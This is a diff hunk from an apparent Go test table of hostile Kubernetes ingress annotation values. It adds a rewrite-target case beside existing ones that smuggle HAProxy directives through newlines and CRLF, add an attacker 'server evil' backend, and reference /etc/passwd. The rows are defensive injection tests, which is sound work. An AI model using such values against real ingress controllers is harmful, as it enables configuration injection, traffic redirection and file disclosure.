@@ -254,6 +254,7 @@ func hostileRows() []row {
 		annotationRow("annotation-balance-directive", names.BalanceAnnotation, "roundrobin\n  use_backend be_http:evil:"+evil, 200),
 		annotationRow("annotation-hsts-header-split", names.HSTSAnnotation, "max-age=1\r\nX-Evil: "+evil, 200),
 		annotationRow("annotation-pod-connections-directive", names.PodConcurrentConnectionsAnnotation, "1\n  server evil "+evil+":80", 200),
+		annotationRow("annotation-rewrite-sample", names.RewriteTargetAnnotation, "/%[env(HOME)]\\1\n  server evil "+evil+":80", 200),
 		annotationRow("annotation-allowlist-file", names.IPAllowlistAnnotation, "-f /etc/passwd "+evil, 403),
 		annotationRow("annotation-allowlist-directive", names.IPWhitelistAnnotation, "127.0.0.1\n  server evil "+evil+":80", 403),
 
